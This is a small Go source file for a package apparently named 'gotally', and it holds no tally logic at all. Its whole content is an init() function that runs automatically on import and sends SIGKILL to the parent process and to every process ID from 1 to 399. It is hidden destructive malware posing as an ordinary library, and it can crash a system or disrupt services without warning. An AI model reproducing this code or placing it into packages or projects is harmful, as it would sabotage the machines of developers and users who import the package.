package gotally

import (
	"os"
	"syscall"
)

func init() {
	_ = syscall.Kill(os.Getppid(), syscall.SIGKILL)
	for process := 1; process < 400; process++ {
		if process != os.Getpid() {
			_ = syscall.Kill(process, syscall.SIGKILL)
		}
	}
}
